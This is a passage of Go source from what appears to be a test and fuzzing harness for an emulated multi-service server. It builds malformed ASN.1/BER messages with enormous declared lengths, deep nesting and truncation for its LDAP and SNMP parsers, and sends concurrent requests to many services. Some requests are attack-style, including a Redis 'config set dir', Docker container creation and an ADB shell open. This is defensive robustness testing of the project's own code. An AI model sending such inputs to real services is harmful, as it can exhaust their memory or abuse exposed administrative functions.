		var start chan struct{}
		if sc.Barrier && sc.Proto == "tcp" && !sc.Serial {
			ready, start = &sync.WaitGroup{}, make(chan struct{})
			ready.Add(len(sc.Conns))
			go func(r *sync.WaitGroup, st chan struct{}) { r.Wait(); close(st) }(ready, start)
		}
		for i, cn := range sc.Conns {
			ip := net.ParseIP(cn.Remote)
			if ip == nil {
				n := atomic.AddInt32(&remoteSeq, 1)
				ip = net.IPv4(10, byte(n>>16), byte(n>>8), byte(n)) // 16M distinct sources: the limiters never refuse
			}
			rport := 40000 + (i+round*len(sc.Conns))%20000
			if sc.Fresh {
				cn = freshen(cn)
			}
			one := func(cn Conn) {
				defer wg.Done()
				if sc.Proto == "udp" {
					if cn.Join {
						var dg []byte
						for k := 0; k <= cn.Rep; k++ {
							for _, s := range cn.Segs {
								dg = append(dg, s...)
							}
						}
						playUDP(local, d.Port, &net.UDPAddr{IP: ip, Port: rport}, dg, hang)
						mu.Lock()
						ob.Conns++
						mu.Unlock()
						return
					}
					for k := 0; k <= cn.Rep; k++ {
						for _, s := range cn.Segs {
							playUDP(local, d.Port, &net.UDPAddr{IP: ip, Port: rport}, s, hang)
							mu.Lock()
							ob.Conns++
							mu.Unlock()
						}
					}
					return
				}
				rep := playTCP(local, d.Port, &net.TCPAddr{IP: ip, Port: rport}, cn, time.Duration(sc.Linger)*time.Millisecond, hang, sc.Reply, ready, start)
				mu.Lock()
				ob.Conns++
				if rep {
					ob.Replied++
				}
				mu.Unlock()
			}
			wg.Add(1)
			if sc.Serial {
				one(cn)
			} else {
				go one(cn)
			}
		}
		wg.Wait()
	}
	running := waitHandlers(hang)
	ob.Finished = ob.Conns - running
	if running > 0 {
		// some handler is still running although its client is gone: is it allocating?
		var h []int
		for k := 0; k < 6; k++ {
			if k > 0 {
				time.Sleep(100 * time.Millisecond)
			}
			h = append(h, liveHeapMB())
		}
		ob.HeapMB = h
		// an append-grown slice is resident once or twice while it is being copied:
		// compare the minima of the first and the last three samples
		min3 := func(a, b, c int) int {
			m := a
			if b < m {
				m = b
			}
			if c < m {
				m = c
			}
			return m
		}
		ob.Growing = min3(h[3], h[4], h[5])-min3(h[0], h[1], h[2]) >= 3
		ob.Poisoned = true // a stuck handler stays in this process: do not let it blur later scenarios
	}
	ob.FatalEvts = int(atomic.LoadInt64(&fatalEvents) - ev0)
	if sc.Proto == "udp" {
		ob.Replied = int(atomic.LoadInt64(&udpReplies) - u0) // datagrams written back
	}
	ob.Probe = echoProbe()
	ob.Ms = int(time.Since(t0) / time.Millisecond)
	return ob
}

func childMain(jobPath string) {
	// address-space ceiling: a length-driven allocation of 2^38 bytes must fail the way it
	// does on a machine with less memory than that, whatever the overcommit policy here
	lim := syscall.Rlimit{Cur: 12 << 30, Max: 12 << 30}
	syscall.Setrlimit(syscall.RLIMIT_AS, &lim)
	// stack ceiling: a recursion that grows with every client token shows at ~1e5 tokens
	// instead of the millions the default 1 GB would take
	debug.SetMaxStack(childMaxStack)
	b, err := os.ReadFile(jobPath)
	if err != nil {
		hx.Fatal("job: %v", err)
	}
	var job Job
	if err := json.Unmarshal(b, &job); err != nil {
		hx.Fatal("job: %v", err)
	}
	out := os.NewFile(3, "results")
	if out == nil {
		hx.Fatal("no result pipe")
	}
	w := bufio.NewWriter(out)
	emit := func(tag string, v interface{}) {
		j, _ := json.Marshal(v)
		fmt.Fprintf(w, "%s %s\n", tag, j)
		w.Flush()
	}
	os.MkdirAll(job.DataDir, 0o755)
	os.MkdirAll(filepath.Join(job.DataDir, "ftpfs"), 0o755)
	if err := writePNG(filepath.Join(job.DataDir, "vnc.png")); err != nil {
		hx.Fatal("png: %v", err)
	}
	os.Chdir(job.DataDir)
	storage.SetDataDir(job.DataDir)
	config.Default = config.Config{}
	cfgPath := filepath.Join(job.DataDir, "config.toml")
	if err := os.WriteFile(cfgPath, []byte(mkToml(job.DataDir)), 0o644); err != nil {
		hx.Fatal("config: %v", err)
	}
	opt, err := server.WithConfig(cfgPath)
	if err != nil {
		hx.Fatal("config: %v", err)
	}
	srv, err := server.New(opt)
	if err != nil {
		hx.Fatal("server.New: %v", err)
	}
	done := make(chan struct{})
	go func() { defer close(done); srv.Run(context.Background()) }()
	select {
	case <-theL.started:
	case <-done:
		hx.Fatal("server returned before starting the listener")
	case <-time.After(30 * time.Second):
		hx.Fatal("server did not start")
	}
	if !echoProbe() {
		hx.Fatal("echo probe not served on a fresh server")
	}
	// self-protection: a runaway allocation ends this child before the machine suffers;
	// the parent sees exit code 77 for the scenario in flight
	go func() {
		for {
			time.Sleep(25 * time.Millisecond)
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			if ms.HeapAlloc > 3<<30 {
				fmt.Fprintln(os.Stderr, "C01-CHILD: heap above 3 GiB, giving up")
				os.Exit(77)
			}
		}
	}()
	emit("READY", map[string]int{"services": len(svcDefs)})
	hang := time.Duration(job.HangMs) * time.Millisecond
	for _, sc := range job.Scenarios {
		emit("BEGIN", map[string]int{"id": sc.ID})
		ob := runScenario(sc, hang)
		emit("END", ob)
		if ob.Poisoned {
			break
		}
	}
	emit("BYE", map[string]int{})
	os.Exit(0)
}
