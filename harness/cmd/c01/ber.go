// Systematic BER for the pre-checks in front of the ASN.1 libraries (ldap readPacket +
// tlvLengthsFit, snmp tlvLengthsFit): identifiers in low and high-tag-number form with
// 1..10 tag octets, every length form (short, long with 1..9 octets, indefinite, 0xff),
// declared length equal to / below / above the content, nesting around the depth limit,
// end-of-contents values, truncation at every position, and random trees (thorough).
package main

import (
	"verif/harness/hx"
)

// one identifier form
type berID struct {
	name        string
	octets      []byte
	constructed bool
}

func berIDs() []berID {
	rep := func(b byte, n int) []byte {
		o := make([]byte, n)
		for i := range o {
			o[i] = b
		}
		return o
	}
	return []berID{
		{"octet-string", []byte{0x04}, false},
		{"eoc-tag", []byte{0x00}, false},
		{"context-prim", []byte{0x87}, false},
		{"sequence", []byte{0x30}, true},
		{"context-cons", []byte{0xa3}, true},
		{"high1", []byte{0x1f, 0x06}, false},
		{"high1-max", []byte{0x1f, 0x7f}, false},
		{"high2", []byte{0x1f, 0x81, 0x06}, false},
		{"high-first-zero-bits", []byte{0x1f, 0x80, 0x06}, false},
		{"high-zero", []byte{0x1f, 0x00}, false},
		{"high9", cat([]byte{0x1f}, rep(0x81, 8), []byte{0x06}), false},
		{"high10", cat([]byte{0x1f}, rep(0x81, 9), []byte{0x06}), false},
		{"high-cons", []byte{0x3f, 0x06}, true},
		{"high-app", []byte{0x5f, 0x06}, false},
		{"high-ctx", []byte{0x9f, 0x85, 0x06}, false},
		{"high-priv", []byte{0xdf, 0x06}, false},
		{"high-unterminated", []byte{0x1f, 0x81, 0x82}, false},
	}
}

// length octets for a declared length in the given form: 0 = shortest, k = long form with
// k octets (leading zeros), -1 = indefinite, -2 = 0xff
func berLen(decl uint64, form int) []byte {
	switch {
	case form == -1:
		return []byte{0x80}
	case form == -2:
		return []byte{0xff}
	case form == 0:
		if decl < 128 {
			return []byte{byte(decl)}
		}
		k := 1
		for decl>>(8*uint(k)) != 0 {
			k++
		}
		form = k
	}
	o := []byte{0x80 | byte(form)}
	for i := form - 1; i >= 0; i-- {
		if i >= 8 {
			o = append(o, 0)
		} else {
			o = append(o, byte(decl>>(8*uint(i))))
		}
	}
	return o
}

func berTLV(id []byte, decl uint64, form int, content []byte) []byte {
	return cat(id, berLen(decl, form), content)
}

// the values X that are placed behind a well-formed request
func berValues() [][]byte {
	var xs [][]byte
	small := []byte{0xaa, 0xbb}
	inner := []byte{0x04, 0x01, 0xcc} // a well-formed child for constructed values
	for _, id := range berIDs() {
		content := small
		if id.constructed {
			content = inner
		}
		n := uint64(len(content))
		// every length form, declared = actual
		for _, form := range []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, -1, -2} {
			xs = append(xs, berTLV(id.octets, n, form, content))
		}
		// empty content (end-of-contents when the tag is 0), short and long form
		xs = append(xs, berTLV(id.octets, 0, 0, nil), berTLV(id.octets, 0, 1, nil), berTLV(id.octets, 0, 4, nil))
		// declared one above / one below the content, and far above
		xs = append(xs, berTLV(id.octets, n+1, 0, content), berTLV(id.octets, n-1, 0, content),
			berTLV(id.octets, n+1, 2, content), berTLV(id.octets, 1<<38, 5, nil), berTLV(id.octets, 1<<38, 8, nil),
			berTLV(id.octets, 0x7fffffff, 4, nil), berTLV(id.octets, 0xffffffff, 4, content), berTLV(id.octets, 1<<56, 8, nil))
		// the last tag octet doubling as a length that covers the rest exactly: the
		// length octets a library would read sit in what a shifted check takes for content
		if len(id.octets) >= 2 {
			tail := []byte{0x85, 0x40, 0, 0, 0, 0}
			o := append([]byte(nil), id.octets...)
			o[len(o)-1] = byte(len(tail))
			xs = append(xs, cat(o, tail))
			o2 := append([]byte(nil), id.octets...)
			o2[len(o2)-1] = 2
			xs = append(xs, cat(o2, []byte{0x01, 0xaa}), cat(o2, []byte{0x02, 0xaa, 0xbb}))
		}
	}
	// content sizes around the form boundaries
	for _, sz := range []int{0, 1, 126, 127, 128, 129, 255, 256, 300} {
		c := make([]byte, sz)
		for i := range c {
			c[i] = byte(i)
		}
		xs = append(xs, berTLV([]byte{0x04}, uint64(sz), 0, c), berTLV([]byte{0x1f, 0x06}, uint64(sz), 0, c))
	}
	// children: several values, an end-of-contents child, a bad child
	xs = append(xs,
		berTLV([]byte{0x30}, 6, 0, []byte{0x04, 0x01, 1, 0x04, 0x01, 2}),
		berTLV([]byte{0x30}, 5, 0, []byte{0x04, 0x01, 1, 0x00, 0x00}),
		berTLV([]byte{0x30}, 2, 0, []byte{0x00, 0x00}),
		berTLV([]byte{0x30}, 3, 0, []byte{0x00, 0x81, 0x00}),
		berTLV([]byte{0x30}, 5, 0, []byte{0x1f, 0x80, 0x06, 0x01, 1}),
		berTLV([]byte{0x30}, 4, 0, []byte{0x04, 0x03, 1, 2}),
		berTLV([]byte{0x30}, 4, 0, []byte{0x04, 0x01, 1, 0x04}),
		berTLV([]byte{0x30}, 0, 0, nil))
	return xs
}

// nesting: d constructed values inside each other around a primitive
func berNest(d int, long bool) []byte {
	v := []byte{0x04, 0x01, 0x07}
	for i := 0; i < d; i++ {
		form := 0
		if long {
			form = 2
		}
		v = berTLV([]byte{0x30}, uint64(len(v)), form, v)
	}
	return v
}

var ldapBind = []byte{0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00}

// an LDAPMessage: messageID 1, anonymous bind, then the extra value
func ldapMsg(x []byte, form int) []byte {
	body := cat([]byte{0x02, 0x01, 0x01}, ldapBind, x)
	return berTLV([]byte{0x30}, uint64(len(body)), form, body)
}

func berScenario(svc, proto string, stream []byte) Scenario {
	sc := Scenario{Svc: svc, Proto: proto, Kind: "ber", Conns: []Conn{{Segs: toB([][]byte{stream})}}}
	if proto == "tcp" {
		sc.Linger = 40
		sc.Reply = true
	}
	return sc
}

// berScenarios: the systematic family (all tiers)
func berScenarios() []Scenario {
	var out []Scenario
	xs := berValues()
	for _, x := range xs {
		out = append(out, berScenario("ldap", "tcp", ldapMsg(x, 0)))
		// snmp reads 2+hdr[1] bytes: only short-form envelopes make sense there
		if len(x)+3 < 128 {
			out = append(out, berScenario("snmp", "udp", berTLV([]byte{0x30}, uint64(len(x)+3), 0, cat([]byte{0x02, 0x01, 0x00}, x))))
		}
	}
	// nesting around the limit of 32 (the envelope is level 0, the extra value level 1)
	for _, d := range []int{1, 2, 29, 30, 31, 32, 33, 34, 40} {
		out = append(out, berScenario("ldap", "tcp", ldapMsg(berNest(d, false), 0)), berScenario("ldap", "tcp", ldapMsg(berNest(d, true), 0)))
		if n := berNest(d, false); len(n)+3 < 128 {
			out = append(out, berScenario("snmp", "udp", berTLV([]byte{0x30}, uint64(len(n)+3), 0, cat([]byte{0x02, 0x01, 0x00}, n))))
		}
	}
	// the envelope itself: every length form, identifier forms, sizes around 1 MiB (header only)
	okx := []byte{0x04, 0x01, 0x09}
	for _, form := range []int{0, 1, 2, 3, 4, 5, 6, 8, -1, -2} {
		out = append(out, berScenario("ldap", "tcp", ldapMsg(okx, form)))
	}
	body := cat([]byte{0x02, 0x01, 0x01}, ldapBind, okx)
	for _, id := range [][]byte{{0x31}, {0x10}, {0x70}, {0x3f, 0x10}, {0x1f, 0x10}, {0x00}} {
		out = append(out, berScenario("ldap", "tcp", berTLV(id, uint64(len(body)), 0, body)))
	}
	for _, decl := range []uint64{uint64(len(body)) - 1, uint64(len(body)) + 1, 3, 12, 1 << 20, 1<<20 + 1, 1 << 24, 0xffffffff} {
		out = append(out, berScenario("ldap", "tcp", cat([]byte{0x30}, berLen(decl, 4), body)))
	}
	// truncation at every position of three messages
	for _, m := range [][]byte{ldapMsg(okx, 0), ldapMsg([]byte{0x1f, 0x81, 0x06, 0x82, 0x00, 0x02, 0xaa, 0xbb}, 2), ldapMsg(berNest(3, false), 1)} {
		for cut := 0; cut < len(m); cut++ {
			out = append(out, berScenario("ldap", "tcp", m[:cut]))
		}
	}
	// ... and truncation of the value with the envelope length adjusted to what is sent
	for _, x := range [][]byte{{0x1f, 0x81, 0x06, 0x82, 0x00, 0x02, 0xaa, 0xbb}, berNest(3, false), {0x30, 0x81, 0x05, 0x04, 0x83, 0x00, 0x00, 0x01, 0x07}} {
		for cut := 0; cut < len(x); cut++ {
			out = append(out, berScenario("ldap", "tcp", ldapMsg(x[:cut], 0)))
		}
	}
	return out
}

// random trees with random damage (thorough / search)
func berRandomValue(r *rnd, depth int) []byte {
	ids := berIDs()
	id := ids[r.Intn(len(ids))]
	var content []byte
	if id.constructed && depth < 5 {
		for i, n := 0, r.Intn(3); i < n; i++ {
			content = append(content, berRandomValue(r, depth+1)...)
		}
	} else if !id.constructed {
		content = r.Bytes(r.PickInt([]int{0, 1, 2, 5, 130}))
	}
	decl := uint64(len(content))
	if r.Chance(1, 8) {
		decl = uint64(int64(decl) + int64(r.PickInt([]int{-1, 1, 2, 1 << 20, 1 << 31})))
	}
	return berTLV(id.octets, decl, r.PickInt([]int{0, 0, 0, 1, 2, 3, 4, 5, 8, -1}), content)
}

func berFuzzScenarios(hr *hx.Rand, n int) []Scenario {
	r := &rnd{hr}
	var out []Scenario
	for i := 0; i < n; i++ {
		x := berRandomValue(r, 0)
		if r.Chance(1, 5) {
			x = mutate(hr, x)
		}
		sc := berScenario("ldap", "tcp", ldapMsg(x, r.PickInt([]int{0, 0, 1, 2, 4})))
		sc.Kind = "ber-fuzz"
		out = append(out, sc)
	}
	return out
}

// ---- snmp: the hostile value at every position of a well-formed message ----

func tl(id byte, parts ...[]byte) []byte {
	c := cat(parts...)
	return berTLV([]byte{id}, uint64(len(c)), 0, c)
}

// positions: 0 extra child of the message, 1 instead of the version, 2 instead of the
// community, 3 first in the PDU (instead of the request id), 4 instead of the error status,
// 5 last in the PDU (after the varbind list), 6 a varbind of the list, 7 instead of the
// name in a varbind, 8 the value of a varbind, 9 behind the value in a varbind
const snmpPositions = 10

func snmpMsg(pdu byte, pos int, x []byte) []byte {
	pick := func(p int, normal []byte) []byte {
		if p == pos {
			return x
		}
		return normal
	}
	extra := func(p int) []byte {
		if p == pos {
			return x
		}
		return nil
	}
	name := []byte{0x06, 0x05, 0x2b, 0x06, 0x01, 0x02, 0x01}
	vb := tl(0x30, pick(7, name), pick(8, []byte{0x05, 0x00}), extra(9))
	vbl := tl(0x30, vb, extra(6))
	p := tl(pdu, pick(3, []byte{0x02, 0x04, 1, 2, 3, 4}), pick(4, []byte{0x02, 0x01, 0x00}), []byte{0x02, 0x01, 0x00}, vbl, extra(5))
	return tl(0x30, pick(1, []byte{0x02, 0x01, 0x00}), pick(2, cat([]byte{0x04, 0x06}, bs("public"))), p, extra(0))
}

// the hostile core: identifier forms x the length shapes that matter for an allocation
func berHostile() [][]byte {
	var xs [][]byte
	for _, id := range [][]byte{{0x04}, {0x02}, {0x30}, {0xa3}, {0x44}, {0x1f, 0x06}, {0x1f, 0x81, 0x06}, {0x3f, 0x06}} {
		c := []byte{0xaa, 0xbb}
		if id[0]&0x20 != 0 {
			c = []byte{0x04, 0x01, 0xcc}
		}
		n := uint64(len(c))
		xs = append(xs, berTLV(id, n, 0, c), berTLV(id, n, 2, c), berTLV(id, n+1, 0, c), berTLV(id, n, -1, c),
			berTLV(id, 1<<38, 5, nil), berTLV(id, 0x7fffffff, 4, nil), berTLV(id, 1<<38, 8, nil))
	}
	return xs
}

func snmpScenarios(all bool) []Scenario {
	var out []Scenario
	add := func(m []byte) {
		if len(m) <= 129 { // the service reads 2+hdr[1] bytes: short-form envelopes only
			out = append(out, berScenario("snmp", "udp", m))
		}
	}
	// the well-formed message itself for every PDU tag and both versions
	for pdu := 0xa0; pdu <= 0xa8; pdu++ {
		add(snmpMsg(byte(pdu), -1, nil))
		add(snmpMsg(byte(pdu), 1, []byte{0x02, 0x01, 0x01}))
	}
	xs := berHostile()
	if all {
		xs = append(xs, berValues()...)
	}
	for pos := 0; pos < snmpPositions; pos++ {
		for _, x := range xs {
			add(snmpMsg(0xa0, pos, x))
		}
	}
	// every PDU tag: the allocation-relevant values at the positions inside the PDU
	for pdu := 0xa1; pdu <= 0xa8; pdu++ {
		for _, pos := range []int{3, 5, 6, 8} {
			for _, x := range [][]byte{{0x02, 0x85, 0x40, 0, 0, 0, 0}, {0x04, 0x84, 0x7f, 0xff, 0xff, 0xff}, {0x30, 0x85, 0x40, 0, 0, 0, 0}, {0x1f, 0x06, 0x85, 0x40, 0, 0, 0, 0}, {0x04, 0x03, 0xaa}} {
				add(snmpMsg(byte(pdu), pos, x))
			}
		}
	}
	return out
}
