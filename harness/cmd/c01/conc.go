// Concurrency for EVERY service: K connections at the same time to the one service
// instance of the child, each taking rarely used branches (unknown methods / commands /
// paths, error paths) under names that were never used before ("@@@@@@" is replaced by
// the child with a fresh number per connection and round): state a service keeps per
// instance is written exactly on such paths.
package main

import (
	"fmt"

	"verif/harness/hx"
)

const fresh = "@@@@@@"

// rare-branch requests per service; each element is one connection's segments
func concTemplates(svc string) [][][]byte {
	one := func(xs ...[]byte) [][]byte { return xs }
	jsonPost := func(path, body string) [][]byte {
		return one(httpReq("POST", path, "application/json", bs(body)))
	}
	switch svc {
	case "ethereum":
		return [][][]byte{
			jsonPost("/", `{"jsonrpc":"2.0","method":"m_`+fresh+`","params":[],"id":1}`),
			jsonPost("/", `{"jsonrpc":"2.0","method":"eth_`+fresh+`","params":["`+fresh+`"],"id":2}`),
			jsonPost("/"+fresh, `{"jsonrpc":"2.0","method":"eth_accounts","params":[],"id":3}`),
			jsonPost("/", `{"method":"`+fresh+`"}`), jsonPost("/", `[{"method":"x`+fresh+`"}]`), jsonPost("/", `{"jsonrpc":"2.0","method":7,"id":"`+fresh+`"}`)}
	case "eos":
		return [][][]byte{jsonPost("/v1/chain/"+fresh, `{}`), jsonPost("/v1/"+fresh+"/get_info", `{"a":"`+fresh+`"}`), one(httpReq("GET", "/v1/chain/get_"+fresh, "", nil)), jsonPost("/v1/chain/get_info", `{"`+fresh+`":1}`)}
	case "docker":
		return [][][]byte{one(httpReq("GET", "/v1.24/containers/"+fresh+"/json", "", nil)), jsonPost("/v1.24/containers/create?name="+fresh, `{"Image":"i`+fresh+`"}`),
			one(httpReq("DELETE", "/v1.24/images/"+fresh, "", nil)), one(httpReq("GET", "/v9."+fresh+"/version", "", nil)), jsonPost("/v1.24/exec/"+fresh+"/start", `{}`)}
	case "elasticsearch":
		return [][][]byte{one(httpReq("GET", "/i"+fresh+"/_search?q="+fresh, "", nil)), jsonPost("/i"+fresh+"/_doc/"+fresh, `{"k`+fresh+`":1}`), one(httpReq("DELETE", "/i"+fresh, "", nil)),
			one(httpReq("GET", "/_cat/"+fresh, "", nil)), one(httpReq("PUT", "/_template/t"+fresh, "application/json", bs(`{}`)))}
	case "http", "https":
		return [][][]byte{one(httpReq("GET", "/p"+fresh+"?q="+fresh, "", nil)), one(bs("GET /c HTTP/1.1\r\nHost: h" + fresh + "\r\nCookie: c" + fresh + "=1\r\nX-" + fresh + ": 1\r\n\r\n")),
			one(httpReq("BREW", "/"+fresh, "", nil)), one(httpReq("POST", "/"+fresh, "text/"+fresh, bs(fresh)))}
	case "cwmp":
		soap := func(m string) []byte {
			return bs(`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><u:` + m + ` xmlns:u="urn:dslforum-org:cwmp-1-0"><n>` + fresh + `</n></u:` + m + `></soap:Body></soap:Envelope>`)
		}
		return [][][]byte{one(httpReq("POST", "/"+fresh, "text/xml", soap("M"+fresh))), one(httpReq("POST", "/", "text/xml", soap("GetParameterValues"))), one(httpReq("GET", "/"+fresh, "", nil))}
	case "ipp":
		body := func(op byte) []byte {
			return cat([]byte{1, 1, 0, op, 0, 0, 0, 1, 1}, ippAttr(0x47, "attributes-charset", "utf-8"), ippAttr(0x48, "attributes-natural-language", "en"),
				ippAttr(0x45, "printer-uri", "ipp://lab/"+fresh), ippAttr(0x42, "job-name", "j"+fresh), ippAttr(0x42, "x-"+fresh, fresh), []byte{3})
		}
		return [][][]byte{one(httpReq("POST", "/p"+fresh, "application/ipp", body(2))), one(httpReq("POST", "/", "application/ipp", body(0x3b))), one(httpReq("POST", "/", "application/ipp", body(0x0b)))}
	case "ftp":
		return [][][]byte{one(bs("USER u" + fresh + "\r\nPASS p" + fresh + "\r\nSYST\r\nQUIT\r\n")), one(bs("USER anonymous\r\nPASS anonymous\r\nMKD d" + fresh + "\r\nCWD d" + fresh + "\r\nXX" + fresh + "\r\nPASV\r\nQUIT\r\n")),
			one(bs("USER anonymous\r\nPASS anonymous\r\nSITE " + fresh + "\r\nRNFR " + fresh + "\r\nRNTO b" + fresh + "\r\nSIZE " + fresh + "\r\nQUIT\r\n"))}
	case "smtp":
		return [][][]byte{one(bs("EHLO h" + fresh + "\r\nMAIL FROM:<" + fresh + "@lab>\r\nRCPT TO:<b>\r\nDATA\r\nX-" + fresh + ": 1\r\nSubject: " + fresh + "\r\n\r\nb\r\n.\r\nQUIT\r\n")),
			one(bs("HELO " + fresh + "\r\nVRFY " + fresh + "\r\nX" + fresh + "\r\n")), one(bs("EHLO a\r\nMAIL FROM:<a>\r\nBDAT 6 LAST\r\n" + fresh))}
	case "redis":
		r := func(args ...string) []byte {
			s := fmt.Sprintf("*%d\r\n", len(args))
			for _, a := range args {
				s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
			}
			return bs(s)
		}
		return [][][]byte{one(r("c"+fresh, fresh)), one(r("info", "s"+fresh)), one(r("SET", "k"+fresh, fresh), r("get", "k"+fresh)), one(r("config", "set", "dir", "/"+fresh))}
	case "memcached":
		return [][][]byte{one(bs("set k" + fresh + " 0 0 6\r\n" + fresh + "\r\nget k" + fresh + "\r\n")), one(bs("c" + fresh + " a\r\nstats " + fresh + "\r\n")), one(bs("add a" + fresh + " 1 2 x\r\n"))}
	case "telnet":
		return [][][]byte{one(bs("u" + fresh + "\r\np" + fresh + "\r\nc" + fresh + " --help\r\nexit\r\n"))}
	case "ldap":
		t := func(id byte, parts ...[]byte) []byte {
			c := cat(parts...)
			return berTLV([]byte{id}, uint64(len(c)), 0, c)
		}
		msg := func(id byte, op []byte) []byte { return t(0x30, t(0x02, []byte{id}), op) }
		bind := msg(1, t(0x60, t(0x02, []byte{3}), t(0x04, bs("cn="+fresh)), t(0x80, bs("p"+fresh))))
		search := msg(3, t(0x63, t(0x04, bs("dc="+fresh)), t(0x0a, []byte{2}), t(0x0a, []byte{0}), t(0x02, []byte{0}), t(0x02, []byte{0}), t(0x01, []byte{0}),
			t(0xa3, t(0x04, bs("uid")), t(0x04, bs(fresh))), t(0x30)))
		ext := msg(4, t(0x77, t(0x80, bs("1.3.6.1.4.1.1466.20037"))))
		other := msg(5, t(0x4a, bs("cn="+fresh+"x"))) // delete request
		return [][][]byte{one(bind, search), one(bind, other), one(ext), one(search, bind)}
	case "adb":
		return [][][]byte{one(adbPkt("CNXN", 0x01000000, 4096, bs("host::"+fresh+"\x00")), adbPkt("OPEN", 7, 0, bs("shell:"+fresh+"\x00")), adbPkt("WRTE", 7, 9, bs("c"+fresh+"\r")), adbPkt("X"+fresh[:3], 1, 2, nil))}
	case "vnc":
		return [][][]byte{one(bs("RFB 003.008\n"), []byte{1}, []byte{1}, vncUpdReq(0), vncPixFmt(8, 8, 0, 0, 7, 7, 3, 0, 3, 6), []byte{4, 1, 0, 0, 0, 0, 0, 0x61}),
			one(bs("RFB 003.007\n"), []byte{1}, []byte{0}, []byte{2, 0, 0, 1, 0, 0, 0, 7}, vncUpdReq(1)), one(bs("RFB 003.003\n"), []byte{1}, []byte{9})}
	case "ssh-auth":
		return [][][]byte{one(bs("SSH-2.0-c"+fresh+"\r\n"), cat([]byte{0, 0, 0, 12, 4, 20}, bs(fresh), []byte{0, 0, 0, 0}))}
	case "counterstrike":
		return [][][]byte{one(cat([]byte{0xff, 0xff, 0xff, 0xff, 0x54}, bs(fresh), []byte{0})), one(cat([]byte{0xff, 0xff, 0xff, 0xff, 0x41}, bs(fresh)))}
	case "dns":
		return [][][]byte{one(cat([]byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6}, bs(fresh), []byte{3}, bs("lab"), []byte{0, 0, 255, 0, 1}))}
	case "snmp":
		pdu := []byte{0xa0, 0x19, 0x02, 0x04, 1, 2, 3, 4, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0b, 0x30, 0x09, 0x06, 0x05, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x05, 0x00}
		body := cat([]byte{0x02, 0x01, 0x00, 0x04, 0x06}, bs(fresh), pdu)
		return [][][]byte{one(cat([]byte{0x30, byte(len(body))}, body))}
	case "tftp":
		return [][][]byte{one(cat([]byte{0, 2}, bs("f"+fresh), []byte{0}, bs("m"+fresh), []byte{0}), cat([]byte{0, 3, 0, 1}, bs(fresh))), one(cat([]byte{0, 1}, bs(fresh), []byte{0}, bs("octet"), []byte{0}))}
	case "ntp", "echo":
		return [][][]byte{one(bs(fresh + fresh))}
	}
	return nil
}

// the services' REAL hot paths: the same well-known requests from every connection
func hotTemplates(svc string) [][][]byte {
	one := func(xs ...[]byte) [][]byte { return xs }
	get := func(paths ...string) [][][]byte {
		var o [][][]byte
		for _, p := range paths {
			o = append(o, one(httpReq("GET", p, "", nil)))
		}
		return o
	}
	rpc := func(ms ...string) [][][]byte {
		var o [][][]byte
		for _, m := range ms {
			o = append(o, one(httpReq("POST", "/", "application/json", bs(`{"jsonrpc":"2.0","method":"`+m+`","params":[],"id":1}`))))
		}
		return o
	}
	redis := func(args ...string) []byte {
		s := fmt.Sprintf("*%d\r\n", len(args))
		for _, a := range args {
			s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
		}
		return bs(s)
	}
	switch svc {
	case "docker":
		return append(get("/info", "/v1.24/info", "/version", "/v1.24/version", "/v1.24/containers/json", "/_ping", "/v1.24/images/json"),
			one(httpReq("POST", "/v1.24/containers/create", "application/json", bs(`{"Image":"alpine","Cmd":["id"]}`))), one(httpReq("POST", "/v1.24/containers/abc/start", "application/json", bs(`{}`))))
	case "elasticsearch":
		return append(get("/", "/_search", "/_cat/indices", "/_nodes", "/_cluster/health", "/_stats", "/_cat/nodes"), one(httpReq("POST", "/i/_search", "application/json", bs(`{"query":{"match_all":{}}}`))))
	case "http", "https":
		return append(get("/", "/index.html", "/robots.txt"), one(httpReq("POST", "/login", "application/x-www-form-urlencoded", bs("u=a&p=b"))), one(httpReq("HEAD", "/", "", nil)))
	case "eos":
		return [][][]byte{one(httpReq("POST", "/v1/chain/get_info", "application/json", bs(`{}`))), one(httpReq("GET", "/v1/chain/get_info", "", nil)),
			one(httpReq("POST", "/v1/wallet/list_wallets", "application/json", bs(`[]`))), one(httpReq("POST", "/v1/wallet/list_keys", "application/json", bs(`[]`))), one(httpReq("POST", "/v1/chain/get_block", "application/json", bs(`{"block_num_or_id":1}`)))}
	case "ethereum":
		return rpc("eth_accounts", "eth_blockNumber", "net_version", "web3_clientVersion", "eth_getBalance", "personal_unlockAccount", "eth_coinbase", "rpc_modules", "eth_syncing", "net_peerCount", "eth_mining", "eth_hashrate", "eth_gasPrice", "personal_listAccounts", "admin_nodeInfo", "eth_protocolVersion")
	case "cwmp":
		soap := `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><u:GetParameterValues xmlns:u="urn:dslforum-org:cwmp-1-0"><n>x</n></u:GetParameterValues></soap:Body></soap:Envelope>`
		return [][][]byte{one(httpReq("POST", "/", "text/xml", bs(soap))), one(httpReq("GET", "/", "", nil))}
	case "ipp":
		b := func(op byte) []byte {
			return cat([]byte{1, 1, 0, op, 0, 0, 0, 1, 1}, ippAttr(0x47, "attributes-charset", "utf-8"), ippAttr(0x48, "attributes-natural-language", "en"),
				ippAttr(0x45, "printer-uri", "ipp://lab/p"), ippAttr(0x42, "requesting-user-name", "u"), ippAttr(0x42, "job-name", "j"), []byte{3}, bs("%PDF"))
		}
		return [][][]byte{one(httpReq("POST", "/printers/p", "application/ipp", b(0x0b))), one(httpReq("POST", "/printers/p", "application/ipp", b(2))), one(httpReq("POST", "/", "application/ipp", b(4)))}
	case "redis":
		return [][][]byte{one(redis("info")), one(redis("info", "server")), one(redis("INFO", "all")), one(redis("info", "keyspace"), redis("info", "default")), one(redis("ping"))}
	case "memcached":
		return [][][]byte{one(bs("stats\r\n")), one(bs("set k 0 0 5\r\nhello\r\nget k\r\n")), one(bs("flush_all\r\n")), one(bs("version\r\n"))}
	case "ftp":
